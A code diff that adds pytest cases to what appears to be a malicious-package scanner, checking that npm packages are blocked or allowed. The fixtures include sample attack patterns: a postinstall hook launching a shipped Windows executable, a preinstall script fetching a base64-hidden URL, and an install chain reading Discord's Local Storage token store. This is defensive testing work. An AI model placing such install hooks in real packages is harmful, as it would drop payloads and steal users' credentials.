@@ -824,3 +824,63 @@ def test_package_code_read_where_detonation_cannot_reach(
 ) -> None:
     report = _run("packages", _package_dir(tmp_path, files), tmp_path)
     assert (report["verdict"]["decision"] != "ALLOW") is flagged, report["verdict"]
+
+
+DROPPER_MAIN = (
+    "const { join } = require('path');\nconst { spawn } = require('child_process');\n"
+    "spawn(join(__dirname, 'Setup.Helper.exe'), { detached: true, stdio: 'ignore' }).unref();\n"
+)
+HIDDEN_URL_SCRIPT = (
+    "const https = require('https');\n"
+    "https.get(Buffer.from('aHR0cHM6Ly9leGFtcGxlLm5ldC9r', 'base64').toString(), () => {});\n"
+)
+
+
+def _npm(scripts: dict[str, str], **extra: object) -> str:
+    return json.dumps({"name": "helper-lib", "version": "1.0.0", "scripts": scripts, **extra})
+
+
+@pytest.mark.parametrize(
+    ("files", "flagged"),
+    [
+        ({"package.json": _npm({"postinstall": "node ."}), "index.js": DROPPER_MAIN}, True),
+        ({"package.json": _npm({}, bin={"h": "index.js"}), "index.js": DROPPER_MAIN}, False),
+        ({"package.json": _npm({"preinstall": "node u.js &"}), "u.js": HIDDEN_URL_SCRIPT}, True),
+        ({"package.json": _npm({"test": "node t"}), "test/u.js": HIDDEN_URL_SCRIPT}, False),
+        (
+            {
+                "package.json": _npm({"postinstall": "node build/post.js"}),
+                "build/post.js": "require('./run');\n",
+                "build/run.js": "const s = require('../lib/store');\ns.send();\n",
+                "lib/store.js": "const fs = require('fs');\n"
+                "module.exports.send = () => fs.readdirSync('discord/Local Storage/leveldb');\n",
+            },
+            True,
+        ),
+        ({"package.json": _npm({"install": "node-gyp rebuild"}), "binding.gyp": "{}"}, False),
+    ],
+    ids=[
+        "install-launches-a-shipped-exe",
+        "shipped-exe-behind-a-bin-only",
+        "install-script-hides-its-url",
+        "base64-url-in-tests",
+        "install-reaches-a-stealer-two-modules-away",
+        "native-build",
+    ],
+)
+def test_npm_install_code_read_where_detonation_cannot_reach(
+    files: dict[str, str], flagged: bool, tmp_path: Path
+) -> None:
+    """A Windows dropper, a dependency the install lacks, or a payload behind requires all
+    leave a Linux detonation blank; the install script's code still tells."""
+    report = _run("packages", _package_dir(tmp_path, files), tmp_path)
+    assert (report["verdict"]["decision"] == "BLOCK") is flagged, report["verdict"]
+
+
+def test_npm_looking_up_its_own_index_is_not_held_against_the_package(tmp_path: Path) -> None:
+    art = _package_dir(tmp_path, {"package.json": _npm({"prepare": "npm run build"})})
+    context = _context("packages", art, tmp_path / "ws")
+    context["observed"] = _observed(["rollup -c"], dns=("registry.npmjs.org",))
+    assert REFERENCE.agent_main(context)["verdict"]["decision"] == "ALLOW"
+    context["observed"] = _observed(["rollup -c"], dns=("collect.example.net",))
+    assert REFERENCE.agent_main(context)["verdict"]["decision"] != "ALLOW"
